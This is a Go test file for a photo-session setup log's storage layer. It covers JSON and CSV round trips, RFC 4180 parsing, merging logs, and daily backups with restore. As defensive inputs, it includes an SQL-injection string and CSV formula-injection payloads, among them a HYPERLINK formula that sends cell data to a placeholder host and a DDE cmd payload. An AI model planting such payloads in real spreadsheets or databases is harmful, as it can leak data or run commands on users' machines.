package store

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"stillbench/session"
)

// awkward are texts that formats stumble over.
var awkward = []string{
	"", "plain", "a,b", `"quoted"`, "two\r\nlines", "two\nlines", "one\rline", "\r", " spaces ", "=1+1", "'=1+1", "-20 EV", "-20", "+1", "'tis", "''@a", "@ home", "שלום", "🌰 e\u0301", "tab\t", "nul\x00nul", "'; DROP TABLE setups; --", "<>&\u2028",
}

// richLog logs n sessions of made-up frames, groups, setups and edits, some undone.
func richLog(t testing.TB, s *Store, seed uint64, n int) {
	t.Helper()
	r := rand.New(rand.NewPCG(seed, 5))
	text := func() string { return awkward[r.IntN(len(awkward))] }
	for i := range n {
		id := newSession(t, s, fmt.Sprintf("/pictures/%d of %d, \"%d\"", i, n, seed))
		day := time.Date(2026, 5, 1+i, 10, 0, 0, r.IntN(1e9), time.FixedZone("", 3600*(r.IntN(20)-10)))
		var frames []session.Frame
		for j := range 6 {
			f := frame(10*i+j, 4+float64(j), day.Add(time.Duration(j)*time.Minute))
			f.Pairs = []string{text() + ".JPG"}
			f.Gone, f.SetAside = r.IntN(2) == 0, r.IntN(2) == 0
			f.Meta.Lens, f.Meta.ISO = text(), ptr(100)
			frames = append(frames, f)
		}
		save(t, s, id, frames...)
		var setups []session.Setup
		for range 3 {
			v := session.Setup{
				Subject: text(), Background: text(), Support: text(), Lens: text(), Notes: text(), Tags: []string{text(), text()},
				AfterFrame: frames[r.IntN(6)].Fingerprint, Logged: day, Magnification: ptr(r.Float64() + 0.1),
				Lights: []session.Light{
					{Kind: session.LightLED, AzimuthDeg: 360 * r.Float64(), ElevationDeg: 90 * r.Float64(), Modifier: text(), Power: text(), DistanceCM: ptr(1 / 3.0), ColourK: ptr(5600)},
					{Kind: session.LightFlag, AzimuthDeg: 0, ElevationDeg: -90},
				},
			}
			setups = append(setups, logSetup(t, s, id, v))
		}
		changed := setups[0]
		changed.Notes = "changed " + text()
		logSetup(t, s, id, changed)
		for _, e := range []session.Edit{
			{Kind: session.EditKindOf, Frame: frames[1].Fingerprint, Group: session.KindStack, Words: text()},
			{Kind: session.EditName, Frame: frames[1].Fingerprint, Text: text(), Words: text()},
			{Kind: session.EditWanted, Frame: frames[1].Fingerprint, Area: session.Area{{0, 0.25}, {1, 1.0 / 3}, {0.5, 1}}, Words: text()},
			{Kind: session.EditTouch, Frame: frames[1].Fingerprint, Touch: &session.Touch{Area: session.Area{{0, 0}, {1, 0}, {0, 1}}, From: "f", Soft: 0.02}, Words: text()},
			{Kind: session.EditUseSetup, Frame: frames[1].Fingerprint, Setup: &setups[1], Words: text()},
			{Kind: session.EditSetup, Setup: &session.Setup{Subject: "hidden " + text()}, Words: text()},
		} {
			if _, err := s.AddEdit(t.Context(), id, e); err != nil {
				t.Fatal(err)
			}
		}
		groups := []session.Group{
			{ID: 1, Kind: session.KindTest, Frames: []string{frames[0].Fingerprint}, SetupID: setups[0].ID},
			{ID: 7, Kind: session.KindStack, Name: text(), Question: session.Say(text()), Confidence: r.Float64(), SetupID: setups[1].ID,
				Frames: []string{frames[1].Fingerprint, frames[2].Fingerprint, frames[3].Fingerprint},
				Seam:   &session.Seam{Confidence: 0.5, Reasons: []session.Reason{{Rule: session.RuleGap, Detail: session.Say(text())}, {Rule: session.RuleTurned, Detail: session.Say(text())}}}},
			{ID: 3, Kind: session.KindSingle, Frames: []string{frames[4].Fingerprint}, Seam: &session.Seam{}},
		}
		if err := s.SaveGroups(t.Context(), id, groups); err != nil {
			t.Fatal(err)
		}
		if err := s.RecordBlend(t.Context(), groups[1].Frames, fmt.Sprintf("/blends/%d \"%d\".tif", seed, i), day); err != nil {
			t.Fatal(err)
		}
		v := setups[0]
		template, err := s.SaveTemplate(t.Context(), fmt.Sprintf("bark, \"%d\"", i), v)
		if err != nil {
			t.Fatal(err)
		}
		if i > 0 {
			if _, err := s.UseTemplate(t.Context(), template.ID); err != nil {
				t.Fatal(err)
			}
		}
		q := session.SetupQuery{Words: text(), Sides: []session.Side{session.SideLeft}, ApertureMax: 8, Since: day, MainLight: true}
		if _, err := s.KeepSearch(t.Context(), fmt.Sprintf("kept, \"%d\"", i), q); err != nil {
			t.Fatal(err)
		}
		edits, err := s.Edits(t.Context(), id)
		if err != nil {
			t.Fatal(err)
		}
		for _, e := range []session.Edit{edits[len(edits)-1], edits[len(edits)-2]} {
			if err := s.SetUndone(t.Context(), id, e.ID, true); err != nil {
				t.Fatal(err)
			}
		}
	}
}

func export(t testing.TB, s *Store) string {
	t.Helper()
	var b bytes.Buffer
	if err := s.Export(t.Context(), &b, nil); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// sameLog checks that two logs hold and find the same.
func sameLog(t *testing.T, got, want *Store) {
	t.Helper()
	if g, w := export(t, got), export(t, want); g != w {
		t.Errorf("exports differ:\ngot  %.3000s\nwant %.3000s", g, w)
	}
	for _, q := range []session.SetupQuery{{}, {Words: "plain"}, {Kinds: []session.LightKind{session.LightFlag}}, {ApertureMin: 5, ApertureMax: 6}} {
		g, w := find(t, got, q), find(t, want, q)
		if !reflect.DeepEqual(g.Wheel, w.Wheel) || g.Total != w.Total || g.Logged != w.Logged {
			t.Errorf("%+v finds %d of %d, want %d of %d", q, g.Total, g.Logged, w.Total, w.Logged)
		}
		for i := range min(len(g.Setups), len(w.Setups)) {
			a, b := g.Setups[i], w.Setups[i]
			a.ID, b.ID, a.SessionID, b.SessionID = 0, 0, 0, 0
			if !reflect.DeepEqual(a, b) {
				t.Errorf("%+v, row %d:\ngot  %+v\nwant %+v", q, i, a, b)
			}
		}
	}
}

// TestJSONRoundTrip: an empty log that has read an export holds the same, to the byte.
func TestJSONRoundTrip(t *testing.T) {
	for _, n := range []int{0, 1, 4} {
		a, b := newLog(t), newLog(t)
		newSession(t, b, "/already here") // numbers differ in the two logs
		richLog(t, a, 1, n)
		m, err := b.Import(t.Context(), strings.NewReader(export(t, a)))
		if err != nil || m != (session.Merged{Sessions: n, Frames: 6 * n, Setups: 4 * n, Edits: 10 * n, Blends: n, Templates: n, Searches: n}) {
			t.Fatalf("%d sessions: %+v, %v", n, m, err)
		}
		if _, err := b.log.write.Exec(`DELETE FROM sessions WHERE dir = '/already here'`); err != nil {
			t.Fatal(err)
		}
		sameLog(t, b, a)
		// what was undone can be done again there
		if n > 0 {
			var id int64 = int64(count(t, b.log.write, `SELECT max(id) FROM sessions`))
			edits, err := b.Edits(t.Context(), id)
			if err != nil {
				t.Fatal(err)
			}
			before := find(t, b, session.SetupQuery{}).Total
			if err := b.SetUndone(t.Context(), id, edits[len(edits)-1].ID, false); err != nil {
				t.Fatal(err)
			}
			if after := find(t, b, session.SetupQuery{}).Total; after != before+1 {
				t.Errorf("done again: %d setups, %d before", after, before)
			}
		}
	}
}

// TestCSVRoundTrip: the same through tables; and encoding/csv, a reader that knows nothing
// of ours, reads the same fields in them (it gives CRLF within a field as LF).
func TestCSVRoundTrip(t *testing.T) {
	a, b := newLog(t), newLog(t)
	richLog(t, a, 2, 3)
	dir := filepath.Join(t.TempDir(), "tables")
	for range 2 { // over files that are there already
		if err := a.ExportCSV(t.Context(), dir, nil); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := b.ImportCSV(t.Context(), dir, nil); err != nil {
		t.Fatal(err)
	}
	sameLog(t, b, a)
	entries, err := os.ReadDir(dir)
	if err != nil || len(entries) != len(csvFiles) {
		t.Errorf("%d files, %v", len(entries), err)
	}
	for _, f := range csvFiles {
		data, err := os.ReadFile(filepath.Join(dir, f.name))
		if err != nil {
			t.Fatal(err)
		}
		theirs, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
		if err != nil {
			t.Errorf("%s: %v", f.name, err)
			continue
		}
		r := bufio.NewReader(bytes.NewReader(data))
		for i, want := range theirs {
			got, err := readCSV(r)
			if err != nil {
				t.Fatal(err)
			}
			for j := range got {
				got[j] = strings.ReplaceAll(got[j], "\r\n", "\n")
			}
			if !slices.Equal(got, want) {
				t.Errorf("%s, record %d: %q, encoding/csv reads %q", f.name, i, got, want)
			}
		}
	}
}

// TestCSVRecords holds reading and writing to RFC 4180, section 2 (the examples are those
// of its rules 1, 5, 6 and 7, from memory).
func TestCSVRecords(t *testing.T) {
	for text, want := range map[string][]string{
		"aaa,bbb,ccc\r\n":                 {"aaa", "bbb", "ccc"},
		"aaa,bbb,ccc":                     {"aaa", "bbb", "ccc"}, // rule 2: the last may lack a line break
		"\"aaa\",\"bbb\",\"ccc\"\r\n":     {"aaa", "bbb", "ccc"},
		"\"aaa\",\"b\r\nbb\",\"ccc\"\r\n": {"aaa", "b\r\nbb", "ccc"},
		"\"aaa\",\"b\"\"bb\",\"ccc\"\r\n": {"aaa", `b"bb`, "ccc"},
		",\"\", \r\n":                     {"", "", " "}, // rule 4: spaces are part of a field
		"\"\"\"\"\r\n":                    {`"`},
		"a\n":                             {"a"},
		"\"a,\rb\"":                       {"a,\rb"},
	} {
		got, err := readCSV(bufio.NewReader(strings.NewReader(text)))
		if err != nil || !slices.Equal(got, want) {
			t.Errorf("%q: %q, %v; want %q", text, got, err, want)
		}
		var b bytes.Buffer
		w := bufio.NewWriter(&b)
		writeCSV(w, want)
		w.Flush()
		if again, err := readCSV(bufio.NewReader(&b)); err != nil || !slices.Equal(again, want) {
			t.Errorf("%q written and read: %q, %v", want, again, err)
		}
	}
	for _, text := range []string{`"open`, `a"b`, `"a"b`, "a\rb", `"a" ,b`} {
		if got, err := readCSV(bufio.NewReader(strings.NewReader(text))); !errors.Is(err, session.ErrInvalid) {
			t.Errorf("%q is read as %q, %v", text, got, err)
		}
	}
}

// TestTablesHoldNoFormula: no field of any table is run by a spreadsheet, by the first letters
// that OWASP's ASVS 5.0, 1.2.10, and its page on CSV injection name; what is a number stays one.
func TestTablesHoldNoFormula(t *testing.T) {
	s := newLog(t)
	texts := []string{`=HYPERLINK("http://invalid/?"&A1)`, "+cmd|' /C x'!A1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\uFF1D1+1", "'=1+1", "-20", "−20", "'tis"}
	id := newSession(t, s, "/pictures/a")
	for _, text := range texts {
		logSetup(t, s, id, session.Setup{Subject: text, Lights: []session.Light{{Kind: session.LightLED, ElevationDeg: -12.5, Modifier: text}}})
	}
	dir := t.TempDir()
	if err := s.ExportCSV(t.Context(), dir, nil); err != nil {
		t.Fatal(err)
	}
	numbers := 0
	for _, f := range csvFiles {
		data, err := os.ReadFile(filepath.Join(dir, f.name))
		if err != nil {
			t.Fatal(err)
		}
		records, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, record := range records {
			for _, field := range record {
				_, err := strconv.ParseFloat(field, 64)
				if err == nil && strings.HasPrefix(field, "-") {
					numbers++
				}
				if err != nil && field != "" && strings.ContainsRune("=+-@\t\r\n\uFF1D", []rune(field)[0]) {
					t.Errorf("%s: %q", f.name, field)
				}
			}
		}
	}
	if want := len(texts) + 2; numbers != want { // the heights, and "-20" twice
		t.Errorf("%d negative numbers, want %d", numbers, want)
	}
	other := newLog(t)
	if _, err := other.ImportCSV(t.Context(), dir, nil); err != nil {
		t.Fatal(err)
	}
	sameLog(t, other, s)
}

// TestApostrophesOfOlderTablesStay: those were written without a guard.
func TestApostrophesOfOlderTablesStay(t *testing.T) {
	for _, text := range []string{"'tis", "'", "''", "'a", "=1", "-20", ""} {
		if got := unguarded(text); got != text {
			t.Errorf("%q is read as %q", text, got)
		}
	}
	for _, text := range append(awkward, "'", "''=", "'-1", "-1", "='") {
		if got := unguarded(session.Guarded(text)); got != text {
			t.Errorf("%q comes back as %q", text, got)
		}
	}
}

// TestImportRefuses: what is broken anywhere changes nothing.
func TestImportRefuses(t *testing.T) {
	a := newLog(t)
	richLog(t, a, 3, 2)
	good := export(t, a)
	b := newLog(t)
	richLog(t, b, 4, 1)
	before := export(t, b)
	bad := map[string]string{
		"nothing":       "",
		"a picture":     "\xff\xd8\xff\xe0",
		"another JSON":  `{"sessions": []}`,
		"no folder":     strings.Replace(good, `"dir":"/pictures`, `"dir":"","x":"`, 1),
		"a wrong angle": strings.Replace(good, `"azimuthDeg":0,`, `"azimuthDeg":720,`, 1),
		"a wrong kind":  strings.Replace(good, `"kind":"single"`, `"kind":"heap"`, 1),
		"a wrong time":  strings.Replace(good, `"logged":"2026`, `"logged":"26`, 1),
		"a wrong use":   strings.Replace(good, `"used":"20`, `"used":"`, 1), // of a template: they come before searches
	}
	for i := 1; i < 12; i++ {
		bad[fmt.Sprint("cut at ", i, "/12")] = good[:i*len(good)/12]
	}
	for what, text := range bad {
		if text == good {
			t.Fatalf("%s: not made", what)
		}
		if m, err := b.Import(t.Context(), strings.NewReader(text)); err == nil || m != (session.Merged{}) {
			t.Errorf("%s: %+v, %v", what, m, err)
		}
		if export(t, b) != before {
			t.Fatalf("%s: the log has changed", what)
		}
	}
	if _, err := b.Import(t.Context(), strings.NewReader(strings.Replace(good, `"version": 1`, `"version": 2`, 1))); !errors.Is(err, session.ErrNewerLog) {
		t.Errorf("a newer export: %v", err)
	}
	if _, err := b.ImportCSV(t.Context(), t.TempDir(), nil); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("an empty folder: %v", err)
	}
}

// TestMerge: two logs that grew apart become one without doubles.
func TestMerge(t *testing.T) {
	laptop, desktop := newLog(t), newLog(t)
	clock := time.Date(2026, 6, 1, 8, 0, 0, 0, time.UTC)
	now := func() time.Time { clock = clock.Add(time.Minute); return clock }
	laptop.Now, desktop.Now = now, now
	richLog(t, laptop, 7, 1)
	if _, err := desktop.Merge(t.Context(), laptop.Path(), nil); err != nil {
		t.Fatal(err)
	}
	sameLog(t, desktop, laptop)

	// each logs one setup in the session that both have, and one session of its own
	both := find(t, laptop, session.SetupQuery{}).Setups[0].Dir
	for name, s := range map[string]*Store{"laptop": laptop, "desktop": desktop} {
		logSetup(t, s, newSession(t, s, both), session.Setup{Subject: "in both, by the " + name})
		logSetup(t, s, newSession(t, s, "/only/"+name), session.Setup{Subject: "only on the " + name})
	}
	// and both change the same one: first the laptop, then the desktop
	for _, s := range []*Store{laptop, desktop} {
		for _, v := range find(t, s, session.SetupQuery{Words: "changed"}).Setups {
			v.Notes = "decided on " + filepath.Base(filepath.Dir(s.Path()))
			logSetup(t, s, v.SessionID, v.Setup)
		}
	}
	last := filepath.Base(filepath.Dir(desktop.Path()))

	m, err := desktop.Merge(t.Context(), laptop.Path(), nil)
	if err != nil || m.Sessions != 1 || m.Setups != 2 || m.Updated != 0 || m.Frames != 0 {
		t.Errorf("laptop into desktop: %+v, %v", m, err)
	}
	m, err = laptop.Merge(t.Context(), desktop.Path(), nil)
	if err != nil || m.Sessions != 1 || m.Setups != 2 || m.Updated != 1 {
		t.Errorf("desktop into laptop: %+v, %v", m, err)
	}
	subjects := func(s *Store) (out []string) {
		for _, f := range find(t, s, session.SetupQuery{}).Setups {
			out = append(out, f.Subject+"|"+f.Notes)
		}
		slices.Sort(out)
		return out
	}
	if a, b := subjects(laptop), subjects(desktop); !slices.Equal(a, b) || len(a) != 3+2+2 {
		t.Errorf("after merging both ways:\nlaptop  %q\ndesktop %q", a, b)
	}
	if r := find(t, laptop, session.SetupQuery{Words: last}); r.Total != 1 {
		t.Errorf("the later change is not the one that stays: %+v", subjects(laptop))
	}
	for _, s := range []*Store{laptop, desktop} {
		before := export(t, s)
		if m, err := s.Merge(t.Context(), map[*Store]string{laptop: desktop.Path(), desktop: laptop.Path()}[s], nil); err != nil || m != (session.Merged{}) {
			t.Errorf("merged again: %+v, %v", m, err)
		}
		if export(t, s) != before {
			t.Error("merging again changed the log")
		}
	}
	// a log of an older version, which stays as it is
	old := oldLog(t, 1)
	data, err := os.ReadFile(old)
	if err != nil {
		t.Fatal(err)
	}
	if m, err := laptop.Merge(t.Context(), old, nil); err != nil || m.Setups != 3 {
		t.Errorf("an old log: %+v, %v", m, err)
	}
	if after, err := os.ReadFile(old); err != nil || !bytes.Equal(after, data) {
		t.Errorf("merging changed the other log (%v)", err)
	}
	if _, err := laptop.Merge(t.Context(), filepath.Join(t.TempDir(), "nothing.db"), nil); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("a log that is not there: %v", err)
	}
}

// TestCopies: one copy a day, the old ones thinned out, and the way back.
func TestCopies(t *testing.T) {
	s := newLog(t)
	id := newSession(t, s, "/p")
	logSetup(t, s, id, session.Setup{Subject: "first"})
	clock := time.Date(2026, 1, 1, 12, 0, 0, 0, time.Local)
	s.Now = func() time.Time { return clock }
	for ; clock.Year() < 2028; clock = clock.AddDate(0, 0, 3) {
		if _, err := s.CopyDaily(t.Context()); err != nil {
			t.Fatal(err)
		}
		if clock.Day() < 4 { // a second time on one day
			if _, err := s.CopyDaily(t.Context()); err != nil {
				t.Fatal(err)
			}
		}
	}
	copies, err := s.Copies()
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, c := range copies {
		names = append(names, strings.TrimSuffix(strings.TrimPrefix(filepath.Base(c.Path), "setups-"), ".db"))
		if c.Why != "" || c.Size == 0 || c.Made.IsZero() {
			t.Errorf("%+v", c)
		}
	}
	// every third day from 2026-01-01: the last seven of them, then the last of each month
	want := []string{
		"2027-12-31", "2027-12-28", "2027-12-25", "2027-12-22", "2027-12-19", "2027-12-16", "2027-12-13",
		"2027-11-28", "2027-10-29", "2027-09-29", "2027-08-30", "2027-07-31", "2027-06-28", "2027-05-29", "2027-04-29", "2027-03-30", "2027-02-28", "2027-01-29",
	}
	if !slices.Equal(names, want) {
		t.Errorf("copies %q, want %q", names, want)
	}

	other := openLog(t, s.Path()) // another program
	find(t, other, session.SetupQuery{})
	logSetup(t, s, id, session.Setup{Subject: "second"})
	if err := s.Restore(t.Context(), copies[0].Path, nil); err != nil {
		t.Fatal(err)
	}
	for _, o := range []*Store{s, other} {
		if r := find(t, o, session.SetupQuery{}); r.Total != 1 || r.Setups[0].Subject != "first" {
			t.Errorf("restored: %+v", r)
		}
	}
	whole(t, s)
	// and back to what was before restoring
	copies, err = s.Copies()
	if err != nil || !strings.HasPrefix(copies[0].Why, "before-restore") {
		t.Fatalf("%+v, %v", copies[0], err)
	}
	clock = clock.Add(time.Second)
	if err := s.Restore(t.Context(), copies[0].Path, nil); err != nil {
		t.Fatal(err)
	}
	if r := find(t, other, session.SetupQuery{Words: "second"}); r.Total != 1 {
		t.Errorf("restored again: %+v", r)
	}
	// a copy of an older version
	if err := s.Restore(t.Context(), oldLog(t, 1), nil); err != nil {
		t.Fatal(err)
	}
	if r := find(t, s, session.SetupQuery{Words: "facade"}); r.Total != 1 {
		t.Errorf("restored from an old copy: %+v", r)
	}

	before := export(t, s)
	data, err := os.ReadFile(copies[0].Path)
	if err != nil {
		t.Fatal(err)
	}
	for i := len(data) / 4; i < len(data)/2; i++ {
		data[i] ^= 0x55
	}
	damaged := filepath.Join(t.TempDir(), "damaged.db")
	if err := os.WriteFile(damaged, data, 0o666); err != nil {
		t.Fatal(err)
	}
	for _, bad := range []string{damaged, filepath.Join(t.TempDir(), "nothing.db"), t.TempDir()} {
		if err := s.Restore(t.Context(), bad, nil); err == nil || !strings.Contains(err.Error(), bad) {
			t.Errorf("%s: %v", bad, err)
		}
	}
	if export(t, s) != before {
		t.Error("a copy that was refused changed the log")
	}
}

// TestKilledCopiesAreSweptAway: what a program left that was killed while it copied the log
// is gone after a day; a copy that is being made is left alone.
func TestKilledCopiesAreSweptAway(t *testing.T) {
	s := newLog(t)
	copies := filepath.Join(filepath.Dir(s.Path()), "setups-copies")
	for name, age := range map[string]time.Duration{".part1": 25 * time.Hour, ".part2": time.Hour, "mine": 25 * time.Hour} {
		dir := filepath.Join(copies, name)
		at := time.Now().Add(-age)
		if err := errors.Join(os.MkdirAll(dir, 0o777), os.WriteFile(filepath.Join(dir, "half.db"), nil, 0o666), os.Chtimes(dir, at, at)); err != nil {
			t.Fatal(err)
		}
	}
	path, err := s.CopyDaily(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	entries, err := os.ReadDir(copies)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, e := range entries {
		names = append(names, e.Name())
	}
	if want := []string{".part2", "mine", filepath.Base(path)}; !slices.Equal(names, want) {
		t.Errorf("left %q, want %q", names, want)
	}
}
